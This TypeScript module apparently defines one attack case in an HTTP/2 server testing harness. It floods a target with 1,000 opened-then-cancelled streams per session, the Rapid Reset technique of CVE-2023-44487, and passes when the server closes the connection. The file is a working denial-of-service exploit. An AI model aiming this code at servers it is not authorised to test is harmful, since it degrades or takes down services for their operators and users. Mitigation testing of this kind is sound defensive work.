import { frame } from "../../wire-fixtures/raw.ts";
import type { Attack } from "../attack.ts";
import { closedWithin, dialHttp2 } from "../dial.ts";
import { callHeaders, hpack } from "../hpack.ts";

const cancel = frame(3, 0, 0, Buffer.from([0, 0, 0, 8]));
const resets = 1_000;

/** Sessions that open and cancel 1,000 calls at once each, as CVE-2023-44487 has it. */
export const rapidReset: Attack = {
  name: "rapid reset, 1,000 in a session",
  right: /^ended by the server$/,
  perSecond: 20,
  atOnce: 2,
  attempts: 100,
  twin: "bare",
  begin(target) {
    const head = hpack(callHeaders(target.key));
    const flood = Buffer.concat(
      Array.from({ length: resets }, (_, i) => {
        const id = 2 * i + 1;
        const reset = Buffer.from(cancel);
        reset.writeUInt32BE(id, 5);
        return Buffer.concat([frame(1, 4, id, head), reset]);
      }),
    );
    return {
      async one() {
        const connection = await dialHttp2(target);
        connection.socket.write(flood);
        const isClosed = await closedWithin(connection, 4_000);
        connection.socket.destroy();
        return isClosed ? "ended by the server" : "left open";
      },
      end() {},
    };
  },
};
